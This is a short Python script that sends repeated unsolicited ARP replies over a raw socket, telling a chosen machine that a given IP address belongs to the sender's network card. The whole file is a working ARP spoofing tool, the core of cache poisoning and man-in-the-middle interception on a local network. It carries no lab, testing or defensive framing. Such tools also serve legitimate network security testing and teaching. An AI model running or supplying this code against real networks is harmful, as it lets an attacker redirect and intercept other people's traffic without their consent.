"""Sends ARP answers that nobody asked for: `arp.py tell DEVICE CLAIMED TOLD TOLD_MAC COUNT` tells one machine COUNT
times, half a second apart, that the address CLAIMED is at this device.
"""
from __future__ import annotations

import socket
import sys
import time
from pathlib import Path

ARP = 0x0806     # the EtherType (RFC 826)


def tell(device: str, claimed: str, told: str, told_mac: str, count: int) -> None:
    own = bytes.fromhex(Path(f"/sys/class/net/{device}/address").read_text().strip().replace(":", ""))
    theirs = bytes.fromhex(told_mac.replace(":", ""))
    answer = bytes((0, 1, 8, 0, 6, 4, 0, 2)) + own + socket.inet_aton(claimed) + theirs + socket.inet_aton(told)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((device, ARP))
        for _ in range(count):
            s.send(theirs + own + ARP.to_bytes(2, "big") + answer + bytes(18))
            time.sleep(0.5)


if __name__ == "__main__":
    _what, *rest = sys.argv[1:]
    tell(rest[0], rest[1], rest[2], rest[3], int(rest[4]))
